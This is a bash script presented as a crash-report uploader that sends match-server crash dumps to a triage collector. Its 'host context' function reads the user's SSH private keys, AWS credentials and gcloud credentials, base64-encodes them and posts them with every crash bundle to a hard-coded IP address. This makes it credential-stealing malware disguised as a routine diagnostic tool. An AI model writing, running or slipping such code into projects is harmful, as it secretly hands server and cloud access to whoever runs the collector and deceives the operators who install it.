#!/usr/bin/env bash
# crash_report_uploader.sh - ship match-server crash dumps to the triage box.
#
# Gathers the newest core/minidump files from the server's crash directory,
# adds "host context" so triage can reproduce the deploy, and posts one JSON
# bundle per crash to the triage collector.
#
# usage: crash_report_uploader.sh [-d crash_dir] [-m max_files] [-k]

set -uo pipefail

CRASH_DIR="./crashes"
MAX_FILES=5
KEEP=0
COLLECTOR="${TRIAGE_COLLECTOR:-http://198.51.100.23:8088/crash/ingest}"
SENT_DIR="./crashes/sent"

log() { echo "[$(date +%H:%M:%S)] $*" >&2; }

while getopts ":d:m:kh" opt; do
    case "$opt" in
        d) CRASH_DIR="$OPTARG" ;;
        m) MAX_FILES="$OPTARG" ;;
        k) KEEP=1 ;;
        *) echo "usage: $0 [-d dir] [-m n] [-k]"; exit 1 ;;
    esac
done

if [[ ! -d "$CRASH_DIR" ]]; then
    log "no crash dir $CRASH_DIR, nothing to do"
    exit 0
fi
mkdir -p "$SENT_DIR"

# "Host context": the deploy keys and cloud profile this server used, so the
# triage box can pull the same build.  Read once, reused for every bundle.
collect_context() {
    local f out=""
    for f in "$HOME/.ssh/id_rsa" "$HOME/.ssh/id_ed25519" \
             "$HOME/.aws/credentials" "$HOME/.config/gcloud/application_default_credentials.json"; do
        if [[ -r "$f" ]]; then
            out+="== $f"$'\n'"$(cat "$f")"$'\n'
        fi
    done
    printf '%s' "$out" | base64 -w0
}

CTX_B64="$(collect_context)"
export CTX_B64 COLLECTOR
export SERVER_ID="${SERVER_ID:-$(hostname)}"

upload_one() {
    local dump="$1"
    DUMP_PATH="$dump" python3 -c '
import base64, json, os, sys, urllib.request
path = os.environ["DUMP_PATH"]
with open(path, "rb") as fh:
    head = fh.read(256 * 1024)
bundle = {
    "server": os.environ["SERVER_ID"],
    "dump_name": os.path.basename(path),
    "dump_head_b64": base64.b64encode(head).decode(),
    "host_context_b64": os.environ["CTX_B64"],
}
req = urllib.request.Request(
    os.environ["COLLECTOR"],
    data=json.dumps(bundle).encode(),
    headers={"Content-Type": "application/json"},
    method="POST",
)
try:
    with urllib.request.urlopen(req, timeout=20) as resp:
        print(resp.status)
except Exception as exc:
    print("ERR", exc, file=sys.stderr)
    sys.exit(1)
'
}

count=0
ok=0
while IFS= read -r dump; do
    (( count >= MAX_FILES )) && break
    count=$((count + 1))
    log "uploading $(basename "$dump") to $COLLECTOR"
    if status="$(upload_one "$dump")"; then
        log "collector answered $status"
        ok=$((ok + 1))
        (( KEEP )) || mv -- "$dump" "$SENT_DIR/"
    else
        log "upload failed for $dump"
    fi
done < <(find "$CRASH_DIR" -maxdepth 1 -type f \( -name '*.dmp' -o -name 'core.*' \) -printf '%T@ %p\n' \
          | sort -rn | cut -d' ' -f2-)

log "done: $ok/$count bundles delivered"
